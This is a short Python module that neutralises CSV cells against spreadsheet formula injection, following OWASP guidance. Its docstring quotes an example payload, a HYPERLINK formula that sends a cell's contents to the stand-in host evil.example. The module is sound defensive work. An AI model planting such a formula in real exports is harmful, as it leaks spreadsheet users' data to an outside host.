"""CSV cells that a spreadsheet will not run: OWASP's CSV-injection neutralisation.

Excel and LibreOffice treat a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return as a formula (``=HYPERLINK("http://evil.example/?x="&A1,…)``); report
text and unit names come from the web and may start that way.  Such a cell is written
with a leading ``'`` so it is shown as text.  Only CSV downloads do this; JSON stays exact.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> str:
    """The cell text for ``value``: ``None`` is empty; a formula-like start gets ``'``."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """UTF-8 CSV with a BOM (Excel needs it for CJK), every cell neutralised."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out)
    writer.writerow(header)
    for row in rows:
        writer.writerow([neutralise(v) for v in row])
    return out.getvalue()
